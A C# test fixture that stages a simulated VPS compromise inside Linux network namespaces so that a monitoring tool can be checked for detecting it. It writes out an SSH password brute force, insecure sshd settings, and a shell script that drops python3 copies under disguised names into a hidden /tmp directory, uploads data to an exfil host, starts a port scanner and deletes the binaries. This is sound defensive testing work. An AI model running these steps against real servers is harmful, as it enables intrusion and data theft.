using System.Diagnostics;
using System.Globalization;
using VpsTop.Core.Tests.Support;
using VpsTop.Tests.Support;

namespace VpsTop.Tests.Drill;

/// <summary>
/// The incident, built for real from network namespaces: a "vps" running a real sshd (passwords and root logins
/// allowed) and a package-owned web server, joined through a "wan" router namespace to an "attacker" and an "exfil"
/// namespace. The attacker brute-forces sshd, gets in with the right password and, from that SSH session, drops a
/// copy of a real program into a hidden /tmp directory, starts it uploading to exfil, deletes its file, and starts a
/// second one scanning exfil's ports. Only these namespaces ever carry traffic. Everything (processes, namespaces,
/// the temp user, files) is removed on dispose, also when the drill failed half-way.
/// </summary>
internal sealed class DrillScene : IDisposable
{
    public const string VpsIp = "10.66.0.2";
    public const string AttackerIp = "10.66.1.2";
    public const string ExfilIp = "10.66.2.2";
    public const int ExfilPort = 4444;

    /// <summary>The scanned host: routed to the wan, which drops everything for it, as a filtering firewall would.</summary>
    public const string ScanTarget = "10.66.9.9";
    public const int WebPort = 8080;
    public const string DropDir = "/tmp/.ICE-cache";

    private readonly Children _children = new();
    private readonly List<string> _namespaces = [];
    private RealSshd? _sshd;

    public DrillScene()
    {
        int id = Environment.ProcessId % 10000;
        Vps = $"vpd{id}-vps";
        Wan = $"vpd{id}-wan";
        Attacker = $"vpd{id}-atk";
        Exfil = $"vpd{id}-exf";
        Uplink = $"vpd{id}u";
        Dir = Directory.CreateTempSubdirectory("vpstop-drill-").FullName;
        try
        {
            // The attacker's shell on the vps runs the scripts as the temp user: the scene's files must be readable.
            File.SetUnixFileMode(Dir, (UnixFileMode)0b111_101_101);
            foreach (string script in Directory.GetFiles(Path.Combine(AppContext.BaseDirectory, "Drill", "Scripts")))
                File.Copy(script, Path.Combine(Dir, Path.GetFileName(script)));
            BuildNetwork();
            StartSshd();
            StartServices();
        }
        catch
        {
            Dispose();
            throw;
        }
    }

    public string Vps { get; }
    public string Wan { get; }
    public string Attacker { get; }
    public string Exfil { get; }

    /// <summary>The vps's interface towards the internet (its default route): what the Bandwidth pane captures.</summary>
    public string Uplink { get; }

    public string Dir { get; }
    public string User => _sshd?.User ?? "";
    public string Password => _sshd?.Password ?? "";
    public string SshdConfig => _sshd!.Config;
    /// <summary>sshd's log as rsyslog would write it (auth.log format, received through syslog).</summary>
    public string SshdLog => _sshd!.Log;
    /// <summary>The admin's key, in the authorized_keys every user of the vps shares (root's too).</summary>
    public string AdminKey => _sshd!.ClientKey;
    public int DropperPid { get; private set; }
    public int ScannerPid { get; private set; }
    public int DaemonPid { get; private set; }

    private void BuildNetwork()
    {
        foreach (string ns in new[] { Vps, Wan, Attacker, Exfil })
        {
            Ip("netns", "add", ns);
            _namespaces.Add(ns);
            Ip("-n", ns, "link", "set", "lo", "up");
        }
        Link(Vps, Uplink, VpsIp, Wan, "10.66.0.1");
        Link(Attacker, $"{Uplink}a", AttackerIp, Wan, "10.66.1.1");
        Link(Exfil, $"{Uplink}x", ExfilIp, Wan, "10.66.2.1");
        Ip("-n", Vps, "route", "add", "default", "via", "10.66.0.1");
        Ip("-n", Attacker, "route", "add", "default", "via", "10.66.1.1");
        Ip("-n", Exfil, "route", "add", "default", "via", "10.66.2.1");
        Exec(Wan, "/usr/sbin/sysctl", "-q", "-w", "net.ipv4.ip_forward=1");
        Ip("-n", Wan, "route", "add", "blackhole", ScanTarget + "/32");
    }

    /// <summary>A veth pair from <paramref name="ns"/> (interface <paramref name="name"/>) to the router.</summary>
    private static void Link(string ns, string name, string address, string router, string routerAddress)
    {
        string peer = name + "r";
        Ip("link", "add", name, "netns", ns, "type", "veth", "peer", "name", peer, "netns", router);
        Ip("-n", ns, "addr", "add", address + "/24", "dev", name);
        Ip("-n", router, "addr", "add", routerAddress + "/24", "dev", peer);
        Ip("-n", ns, "link", "set", name, "up");
        Ip("-n", router, "link", "set", peer, "up");
    }

    /// <summary>
    /// The vps's sshd, with passwords and root logins allowed, listening on port 22 of the vps namespace. It logs
    /// through syslog(3) to /dev/log, as on a real VPS: the drill's receiver writes auth.log the way rsyslog does
    /// (times, host, sshd[pid]). The attacker's target is a temp user with a password; the admin has a key.
    /// </summary>
    private void StartSshd() => _sshd = new RealSshd(new RealSshdOptions
    {
        Dir = Dir,
        Logging = SshdLogging.Syslog,
        SyslogHost = "vps",
        NetworkNamespace = Vps,
        ListenAddress = VpsIp,
        Port = 22,
        UserPrefix = "drl",
        ClientKey = true,
        Comment = "The drill's vps: the careless defaults an attacker hopes for.",
        Settings = """
            PermitRootLogin yes
            PasswordAuthentication yes
            KbdInteractiveAuthentication no
            PubkeyAuthentication yes
            """,
    });

    private void StartServices()
    {
        var sink = Start(Exfil, "/usr/bin/python3", Path.Combine(Dir, "exfil_sink.py"), ExfilPort.ToString(CultureInfo.InvariantCulture));
        Assert.Equal("ready", sink.StandardOutput.ReadLine());
        // An ordinary daemon: Debian's python3 serving a download, fetched slowly from outside. Must not be flagged.
        string site = Path.Combine(Dir, "site");
        Directory.CreateDirectory(site);
        File.WriteAllBytes(Path.Combine(site, "release.tar"), new byte[4 << 20]);
        var daemon = Start(Vps, "/usr/bin/python3", "-m", "http.server", "--bind", VpsIp, "--directory", site,
            WebPort.ToString(CultureInfo.InvariantCulture));
        DaemonPid = daemon.Id;
        WaitFor(() => CanConnect(Wan, VpsIp, WebPort), "the web server");
        // The fetcher sits on the router (an ordinary visitor from the internet), so exfil receives only what is stolen.
        Start(Wan, "/usr/bin/python3", Path.Combine(Dir, "fetcher.py"), $"http://{VpsIp}:{WebPort}/release.tar", "80000");
    }

    private static bool CanConnect(string fromNamespace, string host, int port)
    {
        var (exit, _, _) = Capture(fromNamespace, "/usr/bin/python3", "-c",
            $"import socket; socket.create_connection(('{host}', {port}), timeout=1).close()");
        return exit == 0;
    }

    /// <summary>One ssh login attempt from the attacker namespace with a password; its exit code (0: got in).</summary>
    public int SshFromAttacker(string user, string password, string command = "true") => PasswordAttemptFromAttacker(user, password,
        command).Exit;

    public (int Exit, string Stdout, string Stderr) PasswordAttemptFromAttacker(string user, string password, string command = "true") =>
        Capture(Attacker, "/usr/bin/sshpass", "-p", password, "/usr/bin/ssh",
            "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
            "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
            "-o", "ConnectTimeout=5", $"{user}@{VpsIp}", command);

    /// <summary>The admin, from their workstation (the wan side), opens a new session as root with their key.</summary>
    public (int Exit, string Stdout, string Stderr) SshAsRootWithKey(string command) =>
        Capture(Wan, "/usr/bin/ssh", "-i", AdminKey, "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
            "UserKnownHostsFile=/dev/null",
            "-o", "LogLevel=ERROR", "-o", "PreferredAuthentications=publickey", "-o", "ConnectTimeout=5", $"root@{VpsIp}", command);

    /// <summary>The brute force: invalid users, wrong passwords for the real user, then the right one.</summary>
    public void BruteForce()
    {
        foreach (string user in new[] { "admin", "oracle", "test", "ubuntu" })
            Assert.NotEqual(0, SshFromAttacker(user, "123456"));
        foreach (string guess in new[] { "password", "qwerty", "letmein", "Summer2026!" })
            Assert.NotEqual(0, SshFromAttacker(User, guess));
    }

    /// <summary>
    /// The attacker logs in with the right password and, from that session, drops a copy of python3 under a harmless
    /// name in a hidden /tmp directory, starts it uploading to exfil, deletes the file, and starts a scanner the same
    /// way. The session stays open (its shell waits), so the dropped programs' parent chain leads to sshd.
    /// </summary>
    public void Intrude()
    {
        string script = string.Join("; ",
            $"mkdir -p {DropDir}",
            $"cp /usr/bin/python3 {DropDir}/kworkerd",
            $"cp /usr/bin/python3 {DropDir}/dbus-helper",
            $"PYTHONHOME=/usr {DropDir}/kworkerd {Dir}/uploader.py {ExfilIp} {ExfilPort} 300000 </dev/null >/dev/null 2>&1 & d=$!",
            "echo DROPPER=$d",
            $"PYTHONHOME=/usr {DropDir}/dbus-helper {Dir}/scanner.py {ScanTarget} 20 1000 </dev/null >/dev/null 2>&1 & s=$!",
            "echo SCANNER=$s",
            // The files go once both programs run from them (their exec is done), at most 10 s on.
            $"for i in $(seq 200); do [ \"$(readlink /proc/$d/exe)\" = {DropDir}/kworkerd ] "
                + $"&& [ \"$(readlink /proc/$s/exe)\" = {DropDir}/dbus-helper ] && break; sleep 0.05; done",
            $"rm -f {DropDir}/kworkerd {DropDir}/dbus-helper",
            "echo DROPPED",
            "sleep 600");
        var session = Start(Attacker, "/usr/bin/sshpass", "-p", Password, "/usr/bin/ssh",
            "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
            "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", $"{User}@{VpsIp}", script);
        var deadline = DateTime.UtcNow.AddSeconds(20);
        while (DateTime.UtcNow < deadline && session.StandardOutput.ReadLine() is { } line)
        {
            if (line.StartsWith("DROPPER=", StringComparison.Ordinal)) DropperPid = int.Parse(line[8..], CultureInfo.InvariantCulture);
            else if (line.StartsWith("SCANNER=", StringComparison.Ordinal)) ScannerPid = int.Parse(line[8..], CultureInfo.InvariantCulture);
            else if (line == "DROPPED") break;
        }
        Assert.True(DropperPid > 0 && ScannerPid > 0, "the attacker's session did not start both programs: " + File.ReadAllText(SshdLog));
        string? exe = new FileInfo($"/proc/{DropperPid}/exe").LinkTarget;
        Assert.True(exe?.EndsWith("(deleted)", StringComparison.Ordinal) == true, $"the dropper {DropperPid} runs {exe ?? "no more"}");
    }

    /// <summary>The burst on port 22: connections held open pre-auth from the attacker.</summary>
    public void HoldConnections(int count)
    {
        var p = Start(Attacker, "/usr/bin/python3", Path.Combine(Dir, "idle_connections.py"), VpsIp, "22",
            count.ToString(CultureInfo.InvariantCulture), "600");
        Assert.Equal($"open {count}", p.StandardOutput.ReadLine());
    }

    /// <summary>Bytes the exfil host has received (the kernel's counter of its interface, read inside its namespace).</summary>
    public long ExfilReceivedBytes()
    {
        var (exit, stdout, stderr) = Capture(Exfil, "/usr/bin/cat", $"/sys/class/net/{Uplink}x/statistics/rx_bytes");
        Assert.True(exit == 0, stderr);
        return long.Parse(stdout.Trim(), CultureInfo.InvariantCulture);
    }

    public static bool IsRunning(int pid) => Directory.Exists($"/proc/{pid}") && !File.ReadAllText($"/proc/{pid}/stat").Contains(") Z ",
        StringComparison.Ordinal);

    private Process Start(string ns, string file, params string[] args)
    {
        var psi = new ProcessStartInfo("/usr/sbin/ip") { UseShellExecute = false, RedirectStandardOutput = true, WorkingDirectory = "/" };
        foreach (string a in new[] { "netns", "exec", ns, file }.Concat(args)) psi.ArgumentList.Add(a);
        return _children.Start(psi);
    }

    public static (int Exit, string Stdout, string Stderr) Capture(string ns, string file, params string[] args) =>
        Run.Capture("/usr/sbin/ip", new[] { "netns", "exec", ns, file }.Concat(args), TimeSpan.FromSeconds(30));

    private static void Exec(string ns, string file, params string[] args)
    {
        var (exit, _, stderr) = Capture(ns, file, args);
        if (exit != 0) throw new InvalidOperationException($"{file} in {ns}: {stderr.Trim()}");
    }

    private static void Ip(params string[] args) => VethNamespace.Ip(args);

    public static void WaitFor(Func<bool> condition, string what, int seconds = 15) =>
        Poll.Until(condition, what, TimeSpan.FromSeconds(seconds));

    /// <summary>The drill hardens its sshd through the pane, which keeps its backups and pending change in the machine's
    /// state directory: the drill's own entries go with it.</summary>
    private void RemoveHardeningState()
    {
        string state = Core.Hardening.Apply.HardeningTransaction.DefaultStateDirectory;
        try
        {
            foreach (string dir in Directory.Exists(state + "/backups") ? Directory.GetDirectories(state + "/backups") : [])
            {
                string manifest = Path.Combine(dir, "manifest.json");
                if (File.Exists(manifest) && File.ReadAllText(manifest).Contains(SshdConfig,
                    StringComparison.Ordinal)) Directory.Delete(dir, recursive: true);
            }
            string pending = Path.Combine(state, "pending.json");
            if (File.Exists(pending) && File.ReadAllText(pending).Contains(SshdConfig, StringComparison.Ordinal)) File.Delete(pending);
        }
        catch (IOException) { }
    }

    private static void KillQuietly(int pid)
    {
        try
        {
            using var p = Process.GetProcessById(pid);
            p.Kill();
        }
        catch (Exception e) when (e is ArgumentException or InvalidOperationException or System.ComponentModel.Win32Exception) { }
    }

    public void Dispose()
    {
        foreach (int pid in new[] { DropperPid, ScannerPid }) if (pid > 0) KillQuietly(pid);
        _children.Dispose();
        // Anything else still inside the namespaces (the attacker's session and its children) goes before them.
        foreach (string ns in _namespaces)
        {
            foreach (string pid in Run.Capture("/usr/sbin/ip", ["netns", "pids", ns], TimeSpan.FromSeconds(10)).Stdout.Split('\n',
                StringSplitOptions.RemoveEmptyEntries))
                KillQuietly(int.Parse(pid, CultureInfo.InvariantCulture));
            try { Ip("netns", "del", ns); } catch (InvalidOperationException) { }
        }
        _sshd?.Dispose();
        RemoveHardeningState();
        try { Directory.Delete(DropDir, recursive: true); } catch (IOException) { } catch (UnauthorizedAccessException) { }
        try { Directory.Delete(Dir, recursive: true); } catch (IOException) { }
    }
}
